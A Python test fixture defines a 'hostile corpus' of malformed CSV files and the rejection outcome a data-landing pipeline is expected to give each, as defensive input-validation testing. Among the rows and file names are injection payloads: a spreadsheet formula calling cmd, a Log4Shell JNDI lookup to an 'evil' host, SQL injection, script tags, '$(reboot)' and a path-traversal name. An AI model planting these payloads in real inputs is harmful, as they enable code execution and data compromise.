"""The hostile corpus: a class of bad file each, and what must become of it.

All of them are the files of one delivery, so that a file that harmed another one would be seen. A class
says why its whole file is refused, or how many records the file holds and why some of them are refused;
records of which nothing is said are staged.
"""

import csv
import gzip
import io
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

from spark_jobs.landing.csv_file import FIELD_CHARACTERS, MAX_UNPACKED
from tests.lakes import HEADER, csv_of, employment, termination

MANY = 10_000_000
COLUMNS = len(HEADER.split(","))


@dataclass(frozen=True)
class Hostile:
    """A class of bad file: what is in it, and what must become of it.

    `refused`: why the file is refused whole; else it has `records`, of which `codes` says by number why
    some are refused. `others`: records that are neither refused nor staged, by their outcome.
    """

    content: Callable[[], bytes]
    records: int = 0
    codes: Mapping[int, tuple[str, ...]] = field(default_factory=dict)
    refused: str | None = None
    others: Mapping[str, int] = field(default_factory=dict)
    suffix: str = ".csv"


def who(employee_id: str, **changes: str) -> dict[str, str]:
    """A good row of somebody."""
    return employment(**{"employee_id": employee_id, **changes})


def text(*rows: dict[str, str]) -> str:
    return csv_of(*rows)


def rows(*people: dict[str, str]) -> Callable[[], bytes]:
    return lambda: csv_of(*people).encode()


def said(content: bytes | str) -> Callable[[], bytes]:
    return lambda: content.encode() if isinstance(content, str) else content


def refused(code: str, content: Callable[[], bytes], suffix: str = ".csv") -> Hostile:
    return Hostile(content, refused=code, suffix=suffix)


def each(employee_id: str, column: str, values: list[str], **others: str) -> Callable[[], bytes]:
    """A row of somebody else for each value of a column."""
    people = enumerate(values, 1)
    return rows(*(who(f"{employee_id}{n:02}", **{**others, column: value}) for n, value in people))


def all_but(good: set[int], last: int, code: str) -> dict[int, tuple[str, ...]]:
    """The same code for all records up to the last but the good ones."""
    return {number: (code,) for number in range(1, last + 1) if number not in good}


def line(row: dict[str, str]) -> str:
    """A row as a line of CSV, without its header."""
    return text(row).split("\n", 1)[1]


def delimited(delimiter: str) -> Callable[[], bytes]:
    out = io.StringIO(newline="")
    row = who("delimit1")
    csv.writer(out, delimiter=delimiter).writerows([row.keys(), row.values()])
    return said(out.getvalue())


def bomb(beginning: bytes = b"") -> bytes:
    """Some kilobytes that unpack to more than is read."""
    block = gzip.compress(b"0123456789abcde\n" * 2**16, mtime=0)
    return gzip.compress(beginning, mtime=0) + block * (MAX_UNPACKED // 2**20 + 1)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("employees.csv", text(who("zipped01")))
    return out.getvalue()


def packed(content: str) -> bytes:
    return gzip.compress(content.encode(), mtime=0)


def spoiled_checksum() -> bytes:
    content = bytearray(packed(text(who("checksum1"))))
    content[-8] ^= 1
    return bytes(content)


def swapped_header() -> bytes:
    """Names and values that do not belong together: the header says season where the team stands."""
    header = HEADER.replace("season,team_id", "team_id,season")
    return f"{header}\n{line(who('lyinghd1'))}".encode()


SEASONS = ["1984", "1985", "2016", "2017", "0", "-2014", "99999999999999999999", "2147483648", "2014.0"]
SEASONS += ["2e3", "0x7DE", "２０１４", "٢٠١٤", "MMXIV", "NaN", "Infinity", "2014 2015", "+2014"]
SALARIES = ["0.01", "999999999.99", "1,234,567.89", "$5", "+7", "1000000000", "999999999999.99"]
SALARIES += ["1000000000000", "1" * 400, "-0.01", "1e9", "0.001", "1,00", "1.000,00", "€5", "$", "--5"]
SALARIES += ["0x10", "NaN", "Infinity", "1 000", "１２３"]
BIRTHS = ["1974-06-26", "6/26/1974", "19740626", "1974-02-29", "0000-00-00", "0001-01-01", "9999-12-31"]
BIRTHS += ["10000-01-01", "+10000-01-01", "-0044-03-15", "26/06/1974", "13/13/1974", "1900-02-29"]
BIRTHS += ["1974-6-26T00:00", "27206", "6/26/74", "१९७४-०६-२६", "yesterday"]
DEBUTS = ["0001-01-01", "1995-05-29", "9999-12-31", "1/1/0001", "+10000-01-01", "+292278-01-01"]
TIMES = ["2014-04-01T09:00:00+14", "2014-04-01T09:00:00Z", "1970-01-01T00:00:00Z"]
TIMES += ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "+10000-01-01T00:00:00Z"]
TIMES += ["+292278-12-31T00:00:00Z", "2014-04-01T24:00:00Z", "2014-04-01T23:59:60Z"]
TIMES += ["2014-04-01T09:00:00", "2014-04-01 09:00:00Z", "2014-04-01T09:00:00+25:00", "1396342800"]
TIMES += ["2014-04-31T00:00:00Z", "now"]

FILES_REFUSED = {
    "no_bytes": refused("file_empty", said(b"")),
    "gzip_of_nothing": refused("file_empty", said(packed("")), ".csv.gz"),
    "gzip_cut_short": refused("file_gzip_broken", said(packed(text(who("cut1")))[:-9]), ".csv.gz"),
    "gzip_with_another_checksum": refused("file_gzip_broken", spoiled_checksum, ".csv.gz"),
    "gzip_and_rubbish": refused(
        "file_gzip_broken", said(packed(text(who("trail1"))) + b"rubbish"), ".csv.gz"
    ),
    "gzip_of_gzip": refused("file_not_csv", lambda: gzip.compress(packed(text(who("twice1")))), ".csv.gz"),
    "zip_bomb": refused("file_too_large", bomb, ".csv.gz"),
    "zip_bomb_of_good_beginning": refused(
        "file_too_large", lambda: bomb(text(who("bomb1")).encode()), ".csv.gz"
    ),
    "zip_archive": refused("file_not_csv", archive),
    "picture": refused("file_not_csv", said(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")),
    "parquet": refused("file_not_csv", said(b"PAR1\x15\x04\x15\x00\x15\x04")),
    "utf16_with_a_mark": refused("file_not_utf8", said(text(who("wide1")).encode("utf-16"))),
    "utf16_big_endian": refused(
        "file_not_utf8", said(b"\xfe\xff" + text(who("wide2")).encode("utf-16-be"))
    ),
    "utf16_without_a_mark": refused("file_not_csv", said(text(who("wide3")).encode("utf-16-le"))),
    "utf32": refused("file_not_utf8", said(text(who("wide4")).encode("utf-32"))),
    "ebcdic": refused("file_header_missing", said(text(who("ibm1")).encode("cp500"))),
    "semicolons": refused("file_header_missing", delimited(";")),
    "tabs": refused("file_header_missing", delimited("\t")),
    "pipes": refused("file_header_missing", delimited("|")),
    "no_header": refused("file_header_missing", said(line(who("headless")))),
    "header_of_another_feed": refused("file_header_missing", said("player,club\nJeter,NYA\n")),
    "page_of_an_error": refused("file_header_missing", said("<html><h1>502 Bad Gateway</h1></html>")),
    "json": refused("file_header_missing", said('{"employee_id": "json1", "season": 2014}\n')),
    "header_of_a_quote_without_end": refused("file_not_csv", said('"' + text(who("open1")))),
    "header_that_lacks_a_column": refused("file_columns_missing", said(text().replace(",ssn", ""))),
    "header_of_look_alikes": refused("file_columns_missing", said(text().replace("salary", "ѕalary"))),
    "header_with_an_invisible_character": refused(
        "file_columns_missing", said(text().replace("salary", "sal\u200bary"))
    ),
    "header_that_says_a_column_twice": refused("file_columns_twice", said(f"{HEADER},salary\n")),
    "header_of_markup": refused("file_columns_twice", said(f"{HEADER},[/red],[/red]\n")),
    "header_of_ten_million_commas": refused("file_not_csv", lambda: (HEADER + "," * MANY).encode()),
    "header_of_a_million_columns": refused(
        "file_columns_too_many", lambda: ",".join([HEADER, *map(str, range(MANY // 10))]).encode()
    ),
    "record_of_ten_million_commas": refused(
        "file_not_csv", lambda: (text(who("commas1")) + "," * MANY + "\n").encode()
    ),
    "header_of_a_huge_name": refused("file_not_csv", said(f"{HEADER},{'x' * (FIELD_CHARACTERS + 1)}\n")),
    "spreadsheet": refused("file_not_csv", rows(who("sheet1")), ".xlsx"),
    "double_suffix": refused("file_not_csv", rows(who("suffix1")), ".csv.exe"),
}

FILES_READ = {
    "gzip_in_name_only": Hostile(rows(who("plain1")), 1, suffix=".csv.gz"),
    "gzip_not_in_its_name": Hostile(said(packed(text(who("hidden1")))), 1),
    "header_alone": Hostile(said(HEADER), 0),
    "header_that_lies": Hostile(swapped_header, 1, {1: ("season_unreadable", "team_unknown")}),
    "header_again_amid_the_rows": Hostile(
        said(text(who("again1")) + text(who("again2"))),
        3,
        {
            2: (
                "operation_unknown",
                "team_unknown",
                "league_unknown",
                "role_unknown",
                "position_unknown",
                "ssn_malformed",
                "email_malformed",
                "phone_malformed",
                "season_unreadable",
                "birth_date_unreadable",
                "games_unreadable",
                "salary_unreadable",
                "debut_unreadable",
                "updated_at_unreadable",
            )
        },
    ),
    "header_with_names_of_the_platform": Hostile(
        said(
            f"{HEADER},_row_id,_raw,_rescued,_problem,_generation,_outcome,_reasons\n"
            f"{line(who('inside1')).strip()},1,2,3,4,5,6,7\n"
        ),
        1,
    ),
    "header_in_other_letters_and_order": Hostile(
        lambda: (
            csv_of(who("order1"), header=",".join(reversed(HEADER.split(","))))
            .replace("employee_id", " Employee_ID ")
            .encode()
        ),
        1,
    ),
    "columns_without_a_name": Hostile(said(f"{HEADER},\n{line(who('noname1')).strip()},\n"), 1),
    "latin_1": Hostile(
        lambda: text(who("latin1", first_name="José"), who("latin2")).encode("latin-1"),
        2,
        {1: ("invalid_utf8",)},
    ),
    "utf8_that_is_overlong_or_half": Hostile(
        lambda: b"".join(
            [HEADER.encode(), b"\n"]
            + [
                line(who(f"half{n}", first_name="?")).encode().replace(b"?", spoiled)
                for n, spoiled in enumerate(
                    [b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82"]
                )
            ]
        ),
        4,
        all_but(set(), 4, "invalid_utf8"),
    ),
    "null_bytes_after_the_beginning": Hostile(
        rows(*(who(f"early{n:02}") for n in range(30)), who("nul\0l1"), who("null2", first_name="De\0rek")),
        32,
        {31: ("employee_id_malformed",)},
    ),
    "control_characters": Hostile(
        rows(who("ctrl1", first_name="\x1b[2JDerek\x07", last_name="\x08Je\x7fter"), who("c\x1bl2")),
        2,
        {2: ("employee_id_malformed",)},
    ),
    "line_ends_of_old_macs": Hostile(said(text(who("mac1"), who("mac2")).replace("\n", "\r")), 2),
    "line_ends_of_all_kinds": Hostile(
        said(f"{HEADER}\r\n{line(who('ends1')).strip()}\r\r\n\n{line(who('ends2'))}\n\r"), 2
    ),
    "line_ends_that_are_none": Hostile(
        rows(who("nel1", first_name="a\u2028b\u2029c\x0bd\x0ce\x85f\x1cg")), 1
    ),
    "line_ends_in_quotes": Hostile(rows(who("inner1", first_name="De\r\nrek\n", birth_city="\n\n")), 1),
    "blank_lines": Hostile(said(text(who("blank1")).replace("\n", "\n\n\n") + "\n" * 1000), 1),
    "lines_of_blanks": Hostile(said(text(who("spaces1")) + " \n\t\n"), 3, all_but({1}, 3, "malformed_row")),
    "lines_of_commas": Hostile(
        said(text() + "," * (COLUMNS - 1) + "\n"),
        1,
        {
            1: (
                "employee_id_missing",
                "season_missing",
                "team_id_missing",
                "league_missing",
                "last_name_missing",
                "role_missing",
                "updated_at_missing",
                "operation_missing",
            )
        },
    ),
    "record_of_a_million_commas": Hostile(
        lambda: (text(who("commas2")) + "," * (MANY // 10) + "\n" + line(who("commas3"))).encode(),
        3,
        {2: ("malformed_row",)},
    ),
    "quote_without_end": Hostile(
        said(text(who("quote1")) + '"' + line(who("quote2")) + line(who("quote3"))),
        2,
        {2: ("malformed_row",)},
    ),
    "quotes_amid_and_after": Hostile(
        said(
            text()
            + line(who("amid1")).replace("Derek", 'De"rek')
            + line(who("amid2")).replace("Derek", '"Derek" Jr')
            + line(who("amid3")).replace("Derek", '"De\\"rek"')
        ),
        3,
        all_but({1}, 3, "malformed_row"),
    ),
    "commas_without_quotes": Hostile(
        said(text() + line(who("comma1")).replace("Derek", "Derek, Jr.") + line(who("comma2"))),
        2,
        {1: ("malformed_row",)},
    ),
    "line_cut_short": Hostile(said(text(who("short1"), who("short2"))[:-60]), 2, {2: ("malformed_row",)}),
    "field_of_the_largest_size": Hostile(rows(who("large1", birth_city="x" * FIELD_CHARACTERS)), 1),
    "huge_field": Hostile(
        rows(who("huge1"), who("huge2", birth_city="x" * (FIELD_CHARACTERS + 1)), who("huge3")),
        3,
        {2: ("malformed_row",)},
    ),
    "huge_field_of_many_lines": Hostile(
        # What is too long ends where it is: of its rest each line is read as a record, and its closing
        # quote as one that opens.
        rows(who("tall1"), who("tall2", birth_city="x\n" * (FIELD_CHARACTERS // 2 + 10)), who("tall3")),
        12,
        all_but({1}, 12, "malformed_row"),
    ),
    "many_extra_columns": Hostile(
        said(
            f"{HEADER},{','.join(f'extra{n}' for n in range(900))}\n"
            f"{line(who('wider1')).strip()},{','.join('y' * 900)}\n"
        ),
        1,
    ),
    "formulas": Hostile(
        rows(
            who("formula1", first_name="=cmd|' /C calc'!A0", last_name="@SUM(1+1)*cmd"),
            who("formula2", birth_city="+1+1", birth_state="-2", salary='=HYPERLINK("http://evil")'),
        ),
        2,
        {2: ("salary_unreadable",)},
    ),
    "code_of_other_languages": Hostile(
        rows(
            who("robert1", last_name="'); DROP TABLE employees;--"),
            who("robert2", last_name="${jndi:ldap://evil/a}", first_name="<script>alert(1)</script>"),
            who("robert3", last_name="$(reboot) `reboot` {{7*7}} %s %n \\x00 \\N", first_name="[/red]"),
            who("'; drop--"),
        ),
        4,
        {4: ("employee_id_malformed",)},
    ),
    "people_called_null": Hostile(
        rows(*(who(f"null{name}", last_name=name) for name in ("Null", "None", "NaN", "N-A", "True"))), 5
    ),
    "nulls_as_text": Hostile(
        rows(who("NULL"), who("nulls2", season="N/A"), who("nulls3", league="\\N", games="nan")),
        3,
        {1: ("employee_id_missing",), 2: ("season_missing",), 3: ("league_missing",)},
    ),
    "seasons_at_their_limits": Hostile(
        each("season", "season", SEASONS, birth_date=""),
        len(SEASONS),
        {
            **all_but({1, 2, 3, 4, 5, 6, 18}, len(SEASONS), "season_unreadable"),
            **{n: ("season_outside_data",) for n in (1, 4, 5, 6)},
            15: ("season_missing",),
        },
    ),
    "salaries_at_their_limits": Hostile(
        each("salary", "salary", SALARIES),
        len(SALARIES),
        {
            **all_but({1, 2, 3, 4, 5, 19}, len(SALARIES), "salary_unreadable"),
            6: ("salary_implausible",),
            7: ("salary_implausible",),
            10: ("salary_negative",),
        },
    ),
    "games_at_their_limits": Hostile(
        each("games", "games", ["0", "2147483647", "2147483648", "-1", "1.5", "٣"]),
        6,
        {
            3: ("games_unreadable",),
            4: ("games_negative",),
            5: ("games_unreadable",),
            6: ("games_unreadable",),
        },
    ),
    "births_at_their_limits": Hostile(
        each("birth", "birth_date", BIRTHS),
        len(BIRTHS),
        {
            **all_but({1, 2, 3}, len(BIRTHS), "birth_date_unreadable"),
            6: ("birth_date_implausible",),
            7: ("birth_date_implausible",),
            9: ("birth_date_implausible",),
            10: ("birth_date_implausible",),
        },
    ),
    "debuts_at_their_limits": Hostile(
        each("debut", "debut", DEBUTS), len(DEBUTS), all_but({2}, len(DEBUTS), "debut_implausible")
    ),
    "times_at_their_limits": Hostile(
        each("time", "updated_at", TIMES),
        len(TIMES),
        {
            **all_but({1, 2, 3}, len(TIMES), "updated_at_unreadable"),
            **{n: ("updated_at_implausible",) for n in (4, 5, 6, 7)},
        },
    ),
    "look_alikes_in_keys": Hostile(
        rows(
            who("jeterdе01"),  # a Cyrillic letter
            who("ｊeterde01"),  # a full-width one
            who("alike3", team_id="ΝΥΑ"),  # Greek
            who("alike4", league="АL"),
            who("ALIKE5", team_id=" nya\u00a0"),
        ),
        5,
        {
            1: ("employee_id_malformed",),
            2: ("employee_id_malformed",),
            3: ("team_unknown",),
            4: ("league_unknown",),
        },
    ),
    "look_alikes_of_digits": Hostile(
        rows(
            who("digits1", ssn="９００-１２-３４５６"),
            who("digits2", phone="२१२५५५०१२३"),
            who("digits3", ssn="900-12-3４56"),
            who("digits4", ssn="OOO-12-3456"),
            who("digits5", phone="двести"),
        ),
        5,
        {
            1: ("ssn_malformed",),
            2: ("phone_malformed",),
            3: ("ssn_malformed",),
            4: ("ssn_malformed",),
            5: ("phone_malformed",),
        },
    ),
    "writing_of_all_kinds": Hostile(
        rows(
            who("write1", first_name="\u202eДерек\u202c", last_name="e" + "\u0301" * 1000),
            who("write2", first_name="🧢" * 50, last_name="\ufffe\uffff\U0010ffff"),
            who("write3", first_name="\ufeff\u200bDerek\u200b", last_name="İıſK"),
        ),
        3,
    ),
    "salaries_that_no_sum_has_room_for": Hostile(
        rows(*(who(f"rich{n:03}", salary="999999999999.99") for n in range(101))),
        101,
        all_but(set(), 101, "salary_implausible"),
    ),
    "emails_that_take_long_to_judge": Hostile(
        rows(*(who(f"mail{n}", email="a@" + "." * 130_000 + "@") for n in range(20))),
        20,
        all_but(set(), 20, "email_malformed"),
    ),
    "numbers_that_take_long_to_judge": Hostile(
        rows(
            who("digit1", salary="1" + ",000" * 30_000 + "x"),
            who("digit2", phone="1" * 130_000),
            who("digit3" * 20_000),
            who("digit4", games="-" * 130_000),
            who("digit5", birth_date=" " * 130_000 + "1974-06-26"),
        ),
        5,
        {
            1: ("salary_unreadable",),
            2: ("phone_malformed",),
            3: ("employee_id_malformed",),
            4: ("games_unreadable",),
        },
    ),
    "unknown_words": Hostile(
        rows(
            who("words1", operation="X"),
            who("words2", role="umpire"),
            who("words3", position="QB"),
            who("words4", salary="0", birth_date=""),
        ),
        4,
        {1: ("operation_unknown",), 2: ("role_unknown",), 3: ("position_unknown",)},
    ),
    "the_same_a_thousand_times": Hostile(rows(*[who("same1")] * 1000), 1000, others={"duplicate": 999}),
    "a_thousand_versions_at_once": Hostile(
        rows(*(who("versions1", salary=str(n)) for n in range(1, 1001))),
        1000,
        all_but(set(), 1000, "sequence_conflict"),
    ),
    "a_thousand_versions_in_time": Hostile(
        rows(
            *(
                who("later1", updated_at=f"2014-04-01T09:{n // 60:02}:{n % 60:02}Z", salary=str(n + 1))
                for n in range(1000)
            )
        ),
        1000,
        others={"superseded": 999},
    ),
    "two_people_of_one_id": Hostile(
        rows(who("people1"), who("people1", season="2015", ssn="900-99-9999")),
        2,
        all_but(set(), 2, "identity_conflict"),
    ),
    "deletes_full_of_rubbish": Hostile(
        rows(
            termination(employee_id="gone1", salary="=1+1", birth_date="never", team_id="nya"),
            termination(employee_id="gone2", team_id="???"),
            termination(employee_id="gone3", updated_at=""),
        ),
        3,
        {2: ("team_unknown",), 3: ("updated_at_missing",)},
    ),
}

CORPUS = {**FILES_REFUSED, **FILES_READ}

#: Names that file systems, Spark, shells and terminals take for something else; each file has one good row.
TRICKS_IN_NAMES = [
    "a:b.csv", "a%20b.csv", "a b.csv", "%2e%2e%2fup.csv", "100%.csv", "%zz.csv", "a+b.csv", "[a].csv",
    "*.csv", "{a,b}.csv", "a?b#c&d=e.csv", "season=2014.csv", "-rf.csv", "two\nlines.csv", "tab\t.csv",
    "esc\x1b[2J.csv",
    "$(reboot).csv", "`reboot`.csv", "';--.csv", '"q".csv', "<script>alert(1)<-script>.csv", "[bold].csv",
    "back\\slash.csv", "é.csv", "e\u0301.csv", "🧢.csv", "\u202evsc.csv", "CON.csv", "UPPER.CSV",
    "x" * 251 + ".csv",
]  # fmt: skip
#: Names that are no file of the delivery: a note says so.
IGNORED_NAMES = [".hidden.csv", "_marker.csv", "_a=b.csv", "half.csv._COPYING_"]
#: Folders in the delivery's folder, each with a file of a good row that is none of the delivery.
FOLDERS = ["season=2014", "more", "folder.csv"]
NOT_UTF8 = b"\xff\xe9.csv"
